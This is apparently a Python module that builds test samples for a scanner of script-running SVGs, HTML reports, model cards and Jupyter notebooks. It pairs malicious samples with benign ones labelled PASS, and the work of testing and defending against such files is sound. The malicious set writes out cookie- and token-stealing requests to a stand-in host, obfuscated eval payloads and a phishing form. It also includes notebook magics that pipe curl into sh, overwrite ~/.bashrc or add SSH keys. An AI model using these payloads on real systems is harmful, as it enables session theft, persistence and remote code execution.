"""Pages and pictures that run scripts when they are opened."""

from __future__ import annotations

import json
from collections.abc import Iterator

from corpus.sample import PASS, Family, Sample

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{}<rect width="9" height="9"/></svg>'
_THEFT = "fetch('https://203.0.113.9/?c='+document.cookie)"


def _page(body: str) -> bytes:
    return f"<!DOCTYPE html>\n<html><head><title>report</title></head><body>{body}</body></html>\n".encode()


def _card(body: str) -> bytes:
    return f"---\nlicense: mit\n---\n# Model\n\nA model card.\n\n{body}\n".encode()


def _notebook(source: str, outputs: object = ()) -> bytes:
    cell = {
        "cell_type": "code",
        "metadata": {},
        "source": source,
        "outputs": list(outputs),
        "execution_count": 1,
    }
    return json.dumps(
        {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    ).encode()


def _malicious() -> Iterator[Sample]:
    made = Family("markup", "scripts in pages and pictures", "CWE-79; CVE-2021-32797")
    pictures = {
        "script": "<script>alert(1)</script>",
        "script-address": '<script href="https://203.0.113.9/x.js"/>',
        "script-theft": f'<script type="text/javascript"><![CDATA[{_THEFT}]]></script>',
        "handler": '<g onload="alert(1)"/>',
        "animation": '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
        "link": '<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)"><text>x</text></a>',
        "link-spaced": '<a href=" java&#10;script:alert(1)"><text>x</text></a>',
        "foreign": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
        "set": '<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>',
        "prefixed": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    }  # fmt: skip
    for title, inner in pictures.items():
        yield made(f"svg-{title}", "picture.svg", _SVG.format(inner).encode())
    yield made(
        "svg-declared",
        "picture.svg",
        (
            '<?xml version="1.0"?>\n<!-- made by hand -->\n' + _SVG.format(pictures["script"])
        ).encode(),
    )
    yield made(
        "svg-utf-16",
        "picture.svg",
        ('<?xml version="1.0" encoding="utf-16"?>\n' + _SVG.format(pictures["script"])).encode(
            "utf-16"
        ),
    )
    pages = {
        "theft": f"<script>{_THEFT}</script>",
        "handler-theft": '<img src=x onerror="new Image().src=\'https://203.0.113.9/?\'+document.cookie">',
        "decoded": "<script>eval(atob('YWxlcnQoMSk='))</script>",
        "kernel": "<script>Jupyter.notebook.kernel.execute('import os; os.system(\"true\")')</script>",
        "link-theft": "<a href=\"javascript:fetch('https://203.0.113.9/?'+localStorage.token)\">results</a>",
        "form": '<form action="http://203.0.113.9/login"><input name="password" type="password"></form>',
        "beacon": "<body onload=\"navigator.sendBeacon('https://203.0.113.9/', document.cookie)\">",
        "made": "<script>Function(atob('YWxlcnQoMSk='))()</script>",
        "characters": "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
    }  # fmt: skip
    for title, inner in pages.items():
        yield made(f"html-{title}", "report.html", _page(inner))
    for title in ("theft", "handler-theft", "decoded", "kernel", "link-theft"):
        yield made(f"card-{title}", "README.md", _card(pages[title]))
    yield made(
        "card-directory",
        "repository",
        {"README.md": _card(pages["theft"]), "config.json": b"{}"},
    )
    yield made("html-late", "report.html", _page("<p>text</p>" * 20_000 + pages["theft"]))
    cells = Family("markup", "notebook magics")
    magics = {
        "javascript-kernel": "%%javascript\nJupyter.notebook.kernel.execute('import os')",
        "javascript-fetch": f"%%javascript\n{_THEFT}",
        "js": f"%%js\n{_THEFT}",
        "html": f"%%html\n<script>{_THEFT}</script>",
        "html-isolated": f'%%HTML --isolated\n<img src=x onerror="{_THEFT}">',
        "svg": f'%%svg\n<svg onload="{_THEFT}"/>',
        "run-address": "%run http://203.0.113.9/x.py",
        "run-outside": "%run /tmp/x.py",
        "write-startup": "%%writefile ~/.bashrc\ncurl http://127.0.0.1:9/ | sh",
        "append-startup": "%%writefile -a /root/.ssh/authorized_keys\nssh-ed25519 AAAA x",
        "file-startup": "%%file ~/.config/autostart/x.desktop\n[Desktop Entry]",
        "write-script": "%%writefile run.sh\ncurl http://127.0.0.1:9/ | sh",
        "write-code": "%%writefile m.py\nimport os\nos.system('curl http://127.0.0.1:9/ | sh')",
        "script-bash": "%%script --bg bash\ncurl http://127.0.0.1:9/ | sh",
        "python": "%%python\nimport os\nos.system('true')",
        "display-javascript": f'from IPython.display import Javascript, display\ndisplay(Javascript("{_THEFT}"))',
        "display-html": "from IPython.display import HTML\nHTML('<script>Jupyter.notebook.kernel.execute(\"import os\")</script>')",
        "line-magic": "get_ipython().run_line_magic('run', 'http://203.0.113.9/x.py')",
        "cell-magic": "get_ipython().run_cell_magic('javascript', '', 'Jupyter.notebook.kernel.execute(\"1\")')",
        "timed-shell": "%time !curl http://127.0.0.1:9/ | sh",
        "indented-shell": "if True:\n    !curl http://127.0.0.1:9/ | sh",
    }  # fmt: skip
    for title, source in magics.items():
        yield cells(f"notebook-{title}", "demo.ipynb", _notebook(source))


def _honest() -> Iterator[Sample]:
    made = Family("markup", "pages and pictures as they should be")
    library = (
        "!function(t){"
        + "var e=t.localStorage;fetch(t.u);t.eval&&eval('1');document.cookie;" * 2000
        + "}(window);"
    )
    pages = {
        "plain": "<h1>Report</h1><p>All well, 0.93.</p>",
        "plotly": f'<script type="text/javascript">{library}</script><div id="a"></div><script>Plotly.newPlot("a", [{{"y": [1, 2]}}], {{"title": "loss"}})</script>',
        "hosted": '<script src="https://cdn.plot.ly/plotly-2.32.0.min.js" charset="utf-8"></script><script>Plotly.newPlot("a", [])</script>',
        "button": '<button onclick="toggle()">more</button><script>function toggle() { document.getElementById("x").hidden ^= 1; }</script>',
        "fetches-own": "<script>fetch('data.json').then(r => r.json()).then(draw)</script>",
        "documentation": "<pre>&lt;script&gt;fetch('https://x/?c=' + document.cookie)&lt;/script&gt;</pre>",
        "theme": "<script>const t = localStorage.getItem('theme'); if (t) document.body.dataset.theme = t;</script>",
    }  # fmt: skip
    for title, inner in pages.items():
        yield made(f"honest-html-{title}", "report.html", _page(inner), verdict=PASS)
    pictures = {
        "plain": "<title>loss</title><path d='M0 0L9 9'/>",
        "style": "<style>.a{fill:red}</style><defs><linearGradient id='g'/></defs><use href='#g'/>",
        "link": '<a href="https://example.com/"><text>site</text></a>',
        "image": '<image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>',
        "words": "<text>the script is onload = fast, javascript is a language</text>",
    }
    for title, inner in pictures.items():
        yield made(
            f"honest-svg-{title}", "picture.svg", _SVG.format(inner).encode(), verdict=PASS
        )
    cards = {
        "plain": "Use `curl` to fetch it.",
        "embed": '<p align="center"><img src="https://example.com/logo.png" width="400"/></p><a href="https://example.com">site</a>',
        "code": "```html\n<script>fetch('https://x/?c=' + document.cookie)</script>\n```\n",
        "widget": '<script type="module" src="https://gradio.s3-us-west-2.amazonaws.com/4.0.0/gradio.js"></script>\n<gradio-app src="https://x.hf.space"></gradio-app>',
        "details": '<details open onclick="this.open = true"><summary>More</summary>text</details>',
    }  # fmt: skip
    for title, inner in cards.items():
        yield made(f"honest-card-{title}", "README.md", _card(inner), verdict=PASS)
    magics = {
        "write": "%%writefile train.py\nimport torch\n\nprint(torch.__version__)\n",
        "run": "%run train.py --epochs 3",
        "javascript": "%%javascript\nIPython.OutputArea.prototype._should_scroll = function(lines) { return false; }",
        "html": "%%html\n<style>.container { width: 100%; }</style>",
        "load": "%load_ext autoreload\n%autoreload 2\n%matplotlib inline",
        "latex": "%%latex\n$$x^2$$",
        "time": "%%time\nx = sum(range(10))",
        "display": "from IPython.display import HTML\nHTML('<b>done</b>')",
        "bash": "%%bash\npip install -q -r requirements.txt\nls -la | head",
        "env": "%env CUDA_VISIBLE_DEVICES=0\n%cd model",
    }  # fmt: skip
    for title, source in magics.items():
        yield made(f"honest-notebook-{title}", "demo.ipynb", _notebook(source), verdict=PASS)


def samples() -> Iterator[Sample]:
    """All samples of this module."""
    yield from _malicious()
    yield from _honest()
